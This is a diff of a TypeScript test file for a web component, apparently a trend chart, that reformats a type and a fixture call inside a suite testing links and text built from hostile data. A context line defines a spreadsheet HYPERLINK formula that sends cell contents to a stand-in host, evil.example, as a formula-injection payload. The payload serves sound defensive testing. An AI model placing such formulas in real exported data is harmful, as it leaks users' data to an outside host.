@@ -13,7 +13,11 @@ import '../../components/fpk-trend/define.js';
 import { setDataBaseURL } from '../../src/load.js';
 import { captureDownload, settled } from './helpers.js';
 
-type Element_ = HTMLElement & { status: string; csv: string | null; vega: { ready: Promise<{ data(name: string): { url: string | null }[] } | null> } };
+type Element_ = HTMLElement & {
+  status: string;
+  csv: string | null;
+  vega: { ready: Promise<{ data(name: string): { url: string | null }[] } | null> };
+};
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
 const PWNED = '__fpkPwned';
@@ -141,7 +145,9 @@ describe('links and texts from hostile data', function () {
   });
 
   it('<fpk-trend>: event markers link only to http(s) sources', async () => {
-    const el = await fixture<Element_>(html`<fpk-trend loading="eager" view="table" events="designations,cases" from="2019-01"></fpk-trend>`);
+    const el = await fixture<Element_>(
+      html`<fpk-trend loading="eager" view="table" events="designations,cases" from="2019-01"></fpk-trend>`,
+    );
     expect((await settled(el)).type).to.equal('fpk-ready');
     const { unlinked } = anchors(el);
     expect(el.shadowRoot!.querySelectorAll('.markers a').length).to.be.greaterThan(3);
